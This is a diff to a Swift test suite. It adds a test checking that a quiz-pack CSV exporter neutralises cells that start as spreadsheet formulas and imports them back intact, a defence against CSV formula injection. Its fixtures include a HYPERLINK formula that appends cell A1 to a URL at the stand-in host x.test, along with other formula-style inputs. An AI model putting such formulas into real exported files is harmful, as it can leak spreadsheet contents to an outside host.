@@ -88,4 +88,34 @@ struct RoundTripTests {
         let base = URL(fileURLWithPath: file).deletingPathExtension().lastPathComponent
         #expect(try Self.roundTrip(packs, as: format, named: base) == packs)
     }
+
+    @Test("a CSV export writes texts that start as formulas as text, and imports them back as they were")
+    func formulasInCSV() throws {
+        let texts = [#"=HYPERLINK("http://x.test/?"&A1,"Pulsa")"#, "+1+2", "@SUM(1)", "-3 grados"]
+        let items = texts.enumerated().map { index, text in
+            QuizItem(id: index + 1, question: text, author: QuizAuthor(username: "=1+1"), answer: text)
+        }
+        let pack = Pack(name: "formulas", title: "formulas", language: "es", items: .quiz(items))
+        let lines = PackExporter.csv(pack).split(separator: "\n")
+        #expect(
+            lines[1]
+                == #"'=1+1,"'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")","'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")""#
+        )
+        #expect(lines[2] == "'=1+1,'+1+2,'+1+2")
+        #expect(lines[3] == "'=1+1,'@SUM(1),'@SUM(1)")
+        #expect(lines[4] == "'=1+1,'-3 grados,'-3 grados")
+        #expect(CSVField.escaped("\tcmd") == "'\tcmd" && CSVField.escaped("\r=1") == "\"'\r=1\"")
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("formulas-\(UUID())")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let file = folder.appendingPathComponent("formulas.csv")
+        try PackExporter.csv(pack).write(to: file, atomically: true, encoding: .utf8)
+        let back = try Self.importing(file.path)
+        guard case .quiz(let read) = back.first?.items else {
+            Issue.record("not a quiz pack")
+            return
+        }
+        #expect(read.map(\.question) == texts)
+        #expect(read.map(\.answer) == texts)
+    }
 }
